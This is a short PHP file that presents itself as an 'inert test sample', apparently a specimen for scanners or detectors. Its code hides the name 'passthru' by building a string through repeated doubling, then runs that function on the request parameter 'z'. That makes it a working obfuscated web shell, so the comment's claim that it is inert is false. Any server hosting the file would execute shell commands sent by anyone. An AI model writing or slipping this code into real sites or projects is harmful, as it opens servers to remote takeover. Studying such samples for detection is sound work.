<?php
// Inert test sample (obfuscated): each pass appends the string to itself and one letter, so only
// the last characters spell the function; a negative substr cuts them out.
function q7($z)
{
    $l = array('p', 'a', 's', 's', 't', 'h', 'r', 'u');
    $w = '';
    for ($j = 0; $j <= 7; $j++) {
        $w .= $w . $l[$j];
    }
    $w = substr($w, -8);
    $w($z);
}
q7(@$_REQUEST['z']);
